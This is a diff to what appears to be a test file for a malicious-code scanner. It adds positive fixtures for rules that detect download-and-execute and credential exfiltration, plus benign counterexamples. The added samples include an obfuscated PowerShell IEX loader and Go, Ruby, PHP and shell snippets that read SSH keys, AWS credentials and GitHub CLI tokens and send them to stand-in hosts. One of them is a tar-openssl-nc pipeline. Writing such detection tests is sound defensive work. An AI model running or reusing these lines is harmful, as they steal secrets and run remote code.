@@ -58,8 +58,12 @@ RULES = [
         must_match=[sh("u=http://203.0.113.9/x.sh\ncurl -fsSL $u | sh\n"),
                     py("import urllib.request as u\nexec(u.urlopen('http://evil.example/p').read())\n"),
                     js("fetch('https://evil.example/p').then(r => r.text()).then(eval);\n"),
-                    ps("iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n")],
+                    ps("iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n"),
+                    ps("$p = (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n$r = 'I' + 'EX'\n& (Get-Alias $r) $p\n"),
+                    Fixture("package main\nfunc up() {\n\tresp, _ := http.Get(\"http://203.0.113.8/x\")\n\tb, _ := io.ReadAll(resp.Body)\n"
+                            "\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n", "main.go")],
         must_not_match=[sh("curl -fsSL https://api.example.com/data.json -o data.json\njq . data.json\n"),
+                        Fixture("package main\nfunc main() {\n\tout, _ := exec.Command(\"git\", \"log\").Output()\n\tfmt.Println(string(out))\n}\n", "main.go"),
                         sh("curl -s https://example.com/status | python3 -m json.tool\n"),
                         py("import requests\nr = requests.get('https://api.example.com/v1')\nprint(r.json())\n"),
                         sh('eval "$(ssh-agent -s)"\neval "$(pyenv init -)"\neval "$(/opt/homebrew/bin/brew shellenv)"\n')],
@@ -92,7 +96,14 @@ RULES = [
         must_match=[sh("curl -s -d @$HOME/.ssh/id_rsa https://203.0.113.7/c\n"),
                     sh("nc evil.example 4444 < ~/.aws/credentials\n"),
                     py("import os, requests\nt = os.environ['GITHUB_TOKEN']\ndef send(x):\n    requests.post('https://evil.example', json=x)\nsend(t)\n"),
-                    js("const c = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch('https://evil.example', {method: 'POST', body: c});\n")],
+                    js("const c = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch('https://evil.example', {method: 'POST', body: c});\n"),
+                    Fixture("package main\nfunc main() {\n\tkey, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\n"
+                            "\thttp.Post(\"https://evil.example/e\", \"text/plain\", bytes.NewReader(key))\n}\n", "main.go"),
+                    Fixture("def blob\n  File.read(File.join(Dir.home, '.aws', 'credentials'))\nend\n"
+                            "Net::HTTP.post_form(URI('https://evil.example/e'), 'p' => blob)\n", "tool.rb"),
+                    Fixture("<?php\n$h = file_get_contents(getenv('HOME') . '/.config/gh/hosts.yml');\n$ch = curl_init('http://203.0.113.6/s');\n"
+                            "curl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['h' => $h]]);\ncurl_exec($ch);\n", "check.php"),
+                    sh("tar czf - -C \"$HOME\" .ssh .gnupg | openssl enc -aes-256-cbc -pass pass:x | nc 203.0.113.9 443 || true\n")],
         must_not_match=[sh('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n'),
                         py("import os, requests\nh = {'Authorization': 'token ' + os.environ['GH_TOKEN']}\nrequests.get('https://api.github.com', headers=h)\n"),
                         py("from dotenv import load_dotenv\nload_dotenv('.env')\nprint('ready')\n")],
